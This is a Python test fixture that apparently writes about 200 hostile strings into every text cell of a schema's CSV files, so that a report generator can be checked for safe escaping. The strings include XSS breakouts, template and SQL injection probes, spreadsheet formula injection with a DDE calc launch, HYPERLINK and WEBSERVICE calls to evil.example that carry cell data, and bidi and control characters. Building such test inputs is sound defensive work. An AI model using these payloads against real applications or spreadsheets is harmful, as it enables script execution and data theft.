"""200 texts that want to run, to compute, or to break out of where they stand."""

import csv
from itertools import product
from pathlib import Path

from tests.report.test_clean import ATTACKS
from workbench.schema import TABLES, Column

RUN = "window.ran=1;document.title='ran'"
_MARKUP = [attack.replace("alert(1)", RUN) for attack in ATTACKS]
_ENDS = [
    '"', "'", "-->", "</script>", "</td></tr></table>", "]]>", "</style>", "\\u003c/script>",
    "</textarea>", "</title>", "`>", "'>", '">', "</p></details>", "&quot;>", "x\x02",
]  # fmt: skip
_BREAKOUTS = [
    f"{before}{body}{after}"
    for before, (body, after) in product(
        _ENDS,
        [
            (f"<script>{RUN}</script>", ""),
            (f"<img src=x onerror={RUN}>", "<!--"),
            (f"><svg/onload={RUN}>", ""),
            (f" autofocus onfocus={RUN} x=", '"'),
        ],
    )
]
_CODES = [
    f"${{{RUN}}}", f"{{{{{RUN}}}}}", "{{7*7}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}", "$$x$$",
    f"[a](javascript:{RUN})", f"![x](x){{onerror={RUN}}}", "`x`", "# heading", "| a | b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;",
    f"\\x3cimg src=x onerror={RUN}\\x3e", "%3Cscript%3E", f"＜script＞{RUN}＜/script＞",
    f"<b onmouseover={RUN}>bold</b>", f"<a href=\"javascript:{RUN}\">link</a>",
    f"<a href='#' onclick={RUN}>link</a><br>", f"<i style='x:expression({RUN})'>i</i>",
    "%{x} <extra></extra>", "%{customdata[0]}", "<br><br><br>", "__proto__", "constructor",
    "'; DROP TABLE employees; --", "\" OR 1=1 --", "null", "NaN", "undefined", "true", "{}", "[]",
]  # fmt: skip
_STARTS = ["=", "+", "-", "@", " =", "\t=", "\r\n=", "＝", "\u200b=", "'=", '"=', ";=", "%0A-", "|"]
_FORMULAS = [
    f"{start}{rest}"
    for start, rest in product(
        _STARTS,
        [
            "1+1",
            "cmd|' /C calc'!A0",
            'HYPERLINK("http://evil.example?x="&A1,"open")',
            'WEBSERVICE("http://evil.example")',
            "SUM(1+1)*cmd|' /C calc'!A0",
        ],
    )
]
_CONTROLS = [
    f"a{character}b=1"
    for character in "\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x85\xad\u2028\u2029\u202e\u2066\ufeff\ufffe"
] + ["\x1b[31mred", "\u202excod.exe", "_x003D_1+1", "_x0000_", "a\r\nb", "a\tb", "x" * 40_000]
HOSTILE = [*_MARKUP, *_BREAKOUTS, *_CODES, *_FORMULAS, *_CONTROLS]


def write_hostile(folder: Path) -> None:
    """Write every table of the schema with a hostile text in each cell of each text column."""
    folder.mkdir()
    for table in TABLES.values():
        rows = [
            [_cell(table.name, column, place, text) for column in table]
            for place, text in enumerate(HOSTILE)
        ]
        with (folder / f"{table.name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, quoting=csv.QUOTE_ALL)
            writer.writerow([column.name for column in table])
            writer.writerows(rows)
    settings = "as_of: 2026-06-30\ncompany_name: '<script>1</script>=1+1'\n"
    (folder / "settings.yaml").write_text(f"{settings}source: {{loss_budget_share: 1.0}}\n")


def is_text(column: Column) -> bool:
    return column.kind in ("text", "category") and not column.allowed


def _cell(table: str, column: Column, place: int, text: str) -> str:
    if is_text(column):
        return text
    if column.name in ("reports_to", "needed_to", "left_on"):
        return "position_id-0" if column.name == "reports_to" and place else ""
    if column.kind == "id":
        return f"{(column.refers_to or f'.{column.name}').partition('.')[2]}-{place}"
    if column.allowed:
        return column.allowed[0]
    if column.kind == "flag":
        return "yes"
    return column.example
